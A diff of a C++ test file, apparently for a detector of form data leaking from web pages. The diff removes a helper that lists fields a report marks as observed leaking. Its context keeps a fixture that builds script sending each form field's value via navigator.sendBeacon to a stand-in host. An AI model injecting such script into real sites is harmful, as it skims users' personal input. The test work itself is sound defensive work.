@@ -16,14 +16,6 @@ std::string sends(const std::string& names) {
            "'.split(' '))navigator.sendBeacon('https://t.example/e',e.target[n].value)}</script>";
 }
 
-// The fields whose values are seen leaving.
-std::set<std::string> seen_leaving(const Json& report) {
-    std::set<std::string> out;
-    for (const Json& leak : report["leaks"].items())
-        if (leak["basis"].as_text() == "observed") out.insert(leak["field_name"].as_text());
-    return out;
-}
-
 }  // namespace
 
 TEST_CASE("filling: two persons in one form have values of their own; who repeats an address has the same") {
